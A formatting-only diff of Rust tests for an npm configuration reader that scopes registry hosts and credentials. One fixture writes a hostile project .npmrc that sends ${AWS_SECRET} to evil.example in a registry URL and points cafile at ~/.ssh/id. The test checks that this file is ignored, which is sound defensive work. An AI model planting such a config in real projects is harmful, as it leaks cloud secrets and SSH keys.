@@ -55,10 +55,7 @@ fn nothing_configured_is_npms_own_default() {
 #[test]
 fn the_strongest_place_wins() {
     let f = Fixture::new();
-    f.write(
-        "prefix/lib/npm/npmrc",
-        "registry=https://builtin.example/\n@b:registry=https://b.example",
-    );
+    f.write("prefix/lib/npm/npmrc", "registry=https://builtin.example/\n@b:registry=https://b.example");
     assert_eq!(f.read().rules(), ["b.example:443", "builtin.example:443"]);
     f.write("prefix/etc/npmrc", "registry=https://global.example/");
     assert_eq!(f.read().registry.rule(), "global.example:443");
@@ -76,10 +73,7 @@ fn the_strongest_place_wins() {
 #[test]
 fn a_projects_file_counts_only_when_asked_for() {
     let f = Fixture::new().var("AWS_SECRET", "secret");
-    f.write(
-        "home/project/.npmrc",
-        "registry=https://evil.example/${AWS_SECRET}/\ncafile=~/.ssh/id",
-    );
+    f.write("home/project/.npmrc", "registry=https://evil.example/${AWS_SECRET}/\ncafile=~/.ssh/id");
     let config = f.read();
     assert_eq!(config.rules(), ["registry.example.com:443"]);
     assert_eq!(config.cafile, None);
@@ -90,12 +84,8 @@ fn a_projects_file_counts_only_when_asked_for() {
 
 #[test]
 fn credentials_go_to_their_registries_only() {
-    let f = Fixture::new()
-        .var("TOKEN", "tok;en#=\"x")
-        .var("npm_config_//c.example/:_authToken", "from-env");
-    f.write("key.pem", "KEY")
-        .write("cert.pem", "CERT")
-        .write("ca.pem", "CA");
+    let f = Fixture::new().var("TOKEN", "tok;en#=\"x").var("npm_config_//c.example/:_authToken", "from-env");
+    f.write("key.pem", "KEY").write("cert.pem", "CERT").write("ca.pem", "CA");
     let dir = f.dir.path().display();
     f.write(
         "home/.npmrc",
@@ -109,26 +99,13 @@ fn credentials_go_to_their_registries_only() {
     let config = f.read();
     let files = config.fetch_files().unwrap();
     let text = npmrc(&config);
-    assert!(
-        text.contains("//a.example/npm/:_authToken=\"tok;en#=\\\"x\"\n"),
-        "{text}"
-    );
+    assert!(text.contains("//a.example/npm/:_authToken=\"tok;en#=\\\"x\"\n"), "{text}");
     assert!(text.contains("//c.example/:_authToken=\"from-env\"\n"), "{text}");
     assert!(text.contains("min-release-age=\"3\""), "{text}");
-    for absent in [
-        "not-for-us",
-        "other-port",
-        "me@example",
-        "init-author",
-        "=\"old\"",
-    ] {
+    for absent in ["not-for-us", "other-port", "me@example", "init-author", "=\"old\""] {
         assert!(!text.contains(absent), "{absent} in {text}");
     }
-    let content: Vec<&[u8]> = files
-        .iter()
-        .map(|(_, content)| content.as_slice())
-        .take(3)
-        .collect();
+    let content: Vec<&[u8]> = files.iter().map(|(_, content)| content.as_slice()).take(3).collect();
     assert_eq!(content, [&b"CERT"[..], b"KEY", b"CA"]);
     for (path, _) in &files[..3] {
         assert!(text.contains(path.to_str().unwrap()));
@@ -145,19 +122,10 @@ fn the_hosts_loopback_has_another_name_inside() {
         "registry=http://localhost:4873/\n//localhost:4873/:_authToken=t\n@v:registry=http://[::1]:1/",
     );
     let config = f.read();
-    assert_eq!(
-        config.rules(),
-        ["host.npxc.internal:1", "host.npxc.internal:4873"]
-    );
+    assert_eq!(config.rules(), ["host.npxc.internal:1", "host.npxc.internal:4873"]);
     let text = npmrc(&config);
-    assert!(
-        text.contains("registry=\"http://host.npxc.internal:4873/\""),
-        "{text}"
-    );
-    assert!(
-        text.contains("//host.npxc.internal:4873/:_authToken=\"t\""),
-        "{text}"
-    );
+    assert!(text.contains("registry=\"http://host.npxc.internal:4873/\""), "{text}");
+    assert!(text.contains("//host.npxc.internal:4873/:_authToken=\"t\""), "{text}");
     assert!(text.contains("replace-registry-host=\"localhost\""), "{text}");
 }
 
@@ -198,8 +166,5 @@ fn a_bad_registry_says_where_it_stands() {
     let f = Fixture::new();
     f.write("home/.npmrc", "@x:registry=https://user:pw@r.example/");
     let error = NpmConfig::read(&f.host, &f.node, false).unwrap_err().to_string();
-    assert!(
-        error.contains("@x:registry") && error.contains(".npmrc") && !error.contains("pw@"),
-        "{error}"
-    );
+    assert!(error.contains("@x:registry") && error.contains(".npmrc") && !error.contains("pw@"), "{error}");
 }
